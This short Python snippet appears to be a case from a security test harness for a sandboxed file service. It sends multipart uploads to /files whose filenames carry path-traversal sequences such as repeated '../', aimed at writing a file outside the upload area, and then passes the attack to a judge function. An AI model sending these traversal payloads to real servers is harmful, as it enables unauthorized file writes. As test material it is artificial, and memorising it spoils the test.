# aim: write a file on the server's machine
# mechanism: the name of a file in a form
# server: files
# plain: naive

def attack():
    for name in ("../" * 20 + scratch_path, scratch_path, "..\\..\\x", "a/../../../../../../" + scratch_path):
        form = f'--x\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\nwritten\r\n--x--\r\n'.encode()
        ask("POST", "/files", form, E2b_Sandbox_Id=mine.sandbox, Content_Type="multipart/form-data; boundary=x")


judge(attack)
